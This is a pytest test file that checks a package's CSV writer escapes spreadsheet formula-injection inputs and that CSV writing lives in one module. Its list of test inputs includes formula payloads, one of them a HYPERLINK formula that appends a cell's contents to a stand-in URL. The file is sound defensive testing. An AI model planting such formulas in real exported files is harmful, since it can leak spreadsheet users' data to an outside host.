"""Files that the package writes."""

import csv
import io
import re

import pytest
from conftest import ROOT

from flowedit_grag.files import csv_text

FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", '=HYPERLINK("http://x?"&A1,"a")')


@pytest.mark.parametrize("text", FORMULAS)
def test_no_spreadsheet_runs_a_text(text):
    ((name, cell, number),) = csv.reader(io.StringIO(csv_text([(text, f"a{text}", -1.5)]), newline=""))
    shown = text.replace("\r", "\n")
    assert (name, cell, number) == (f"'{shown}", f"a{shown}", "-1.5")


def test_csv_is_written_in_one_place():
    files = [
        path for path in (ROOT / "flowedit_grag").rglob("*.py") if re.search(r"csv\.(w|DictW)riter", path.read_text())
    ]
    assert [path.name for path in files] == ["files.py"]
